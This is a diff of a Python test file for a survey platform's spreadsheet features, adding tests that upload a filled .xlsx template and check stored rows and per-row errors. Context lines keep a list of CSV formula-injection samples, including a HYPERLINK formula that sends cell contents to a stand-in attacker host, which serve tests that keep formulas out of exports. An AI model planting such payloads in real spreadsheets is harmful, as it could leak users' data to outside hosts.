@@ -1,11 +1,13 @@
 #!/usr/bin/env python3
 """Spreadsheets and statistics files (issue 12, part 2; contract §7): template.xlsx read back by
 openpyxl (frozen header, drop-down lists equal to the codes, labels in the input messages, the
-codebook sheet), filled in and uploaded (as CSV with the same values) without an error;
+codebook sheet), filled in and uploaded (as CSV with the same values, and as the .xlsx itself
+with its other sheets, lists and frozen header: the rows stored, or every error by sheet row);
 responses.xlsx equal cell by cell to responses.csv; responses.sav and .dta read back by
 ReadStat's own command and by R haven (each skipped cleanly when absent) with the codebook's
 labels; estimates.xlsx equal to estimates?format=csv; no formula in any export; roles; audit."""
 import csv
+import datetime
 import io
 import json
 import math
@@ -57,6 +59,7 @@ EXPORT_HEADER = ["serial", "agency", "channel", "stratum", "psu", "weight", "fpc
 NUMERIC = {"weight", "fpc", "gender", "age", "S1.1", "S1.2"}
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+2", "-3 là điểm", "@SUM(A1:A9)",
            "\tTab đầu", "bình thường, \"có ngoặc\""]
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -274,6 +277,72 @@ class Spreadsheets(unittest.TestCase):
         self.assertEqual(r.status, 201, r.body)
         self.assertEqual(int(self.db.sql("SELECT count(*) FROM responses r JOIN surveys s ON s.id = r.survey_id"
                                          " WHERE s.code = 'xl2'")), 12)
+
+    def filled_template(self, rows):
+        """template.xlsx as a team fills it in: openpyxl opens the download, appends rows to the
+        first sheet and saves it, keeping the other sheets, the drop-down lists and the frozen
+        header; returns the workbook's bytes and the header."""
+        wb = self.template()
+        self.assertEqual(wb.worksheets[0].title, "Phiếu")
+        ws = wb["Phiếu"]
+        header = [c.value for c in ws[1]]
+        for r in rows:
+            ws.append([r.get(c) for c in header])
+        path = os.path.join(self.tmp, "filled-as-is.xlsx")
+        wb.save(path)
+        back = openpyxl.load_workbook(path)
+        self.assertEqual(back.sheetnames, wb.sheetnames)
+        self.assertGreater(len(back.sheetnames), 1)                     # the lists / codebook sheets kept
+        self.assertEqual(back["Phiếu"].freeze_panes, "A2")
+        self.assertTrue(back["Phiếu"].data_validations.dataValidation)
+        with open(path, "rb") as f:
+            return f.read(), header
+
+    def test_template_xlsx_uploaded_as_it_is(self):
+        """Issue 12's "done when": the downloaded template, filled in, uploaded as the .xlsx itself."""
+        filled = []
+        for i in range(9):
+            filled.append({"serial": f"W-{i}", "agency": ROUND_AGENCIES[i % 3], "channel": ["paper", "phone"][i % 2],
+                           "submitted_at": f"2026-06-{1 + i:02d}", "gender": 1 + i % 2, "age": 30 + i,
+                           "online": "1;2" if i % 2 else None, "note": "Cán bộ tận tình" if i % 3 else None,
+                           "S1.1": 1 + i % 5, "S1.2": 1 + (i + 2) % 5})
+        body, _ = self.filled_template(filled)
+        h.run_sipas(["survey", "create", "--id", "xl3", "--form", "xl-test", "--title", "Đợt nhập bảng tính",
+                     *sum((["--agency", a] for a in ROUND_AGENCIES), [])], self.db.url, check=True)
+        r = self.server.post("/api/v1/surveys/xl3/uploads", body=body, headers={"Content-Type": XLSX},
+                             token=self.team)
+        self.assertEqual(r.status, 201, r.body)
+        self.assertEqual(r.json()["rows"], 9)
+        got = list(csv.reader(io.StringIO(self.get("/api/v1/surveys/xl3/responses.csv").text)))
+        self.assertEqual(got[0], EXPORT_HEADER)
+        by_serial = {d["serial"]: d for d in (dict(zip(got[0], row)) for row in got[1:])}
+        self.assertEqual(sorted(by_serial), sorted(v["serial"] for v in filled))
+        for v in filled:
+            d = by_serial[v["serial"]]
+            for c in ("agency", "channel", "gender", "age", "S1.1", "S1.2"):
+                self.assertEqual(d[c], str(v[c]), (v["serial"], c))
+            self.assertEqual(d["online"], v["online"] or "")
+            self.assertEqual(d["note"], v["note"] or "")
+            day = datetime.datetime.fromisoformat(v["submitted_at"] + "T00:00:00+07:00")   # the province's day
+            self.assertEqual(d["submitted_at"], day.astimezone(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ"))
+
+    def test_template_xlsx_with_bad_rows_names_sheet_rows(self):
+        good = {"serial": "E-0", "agency": "SNV", "channel": "paper", "submitted_at": "2026-06-01", "gender": 1,
+                "age": 40, "S1.1": 4, "S1.2": 5}
+        rows = [good, dict(good, serial="E-1", gender=7, **{"S1.1": 9}), dict(good, serial="E-2"),
+                dict(good, serial="E-3", agency="XYZ", age=7)]
+        body, header = self.filled_template(rows)
+        before = self.db.sql("SELECT count(*) FROM responses")
+        r = self.server.post("/api/v1/surveys/xl1/uploads", body=body, headers={"Content-Type": XLSX},
+                             token=self.team)
+        self.assertEqual(r.status, 422, r.body)
+        errs = r.json()["errors"]
+        self.assertEqual(sorted((e["row"], e["column"]) for e in errs),
+                         [(3, "S1.1"), (3, "gender"), (5, "age"), (5, "agency")], errs)
+        for e in errs:
+            self.assertIn(e["column"], header)
+            self.assertTrue(e["message"] and e["message_vi"], e)
+        self.assertEqual(self.db.sql("SELECT count(*) FROM responses"), before)
 
     # ---- no formula in CSV ----
 
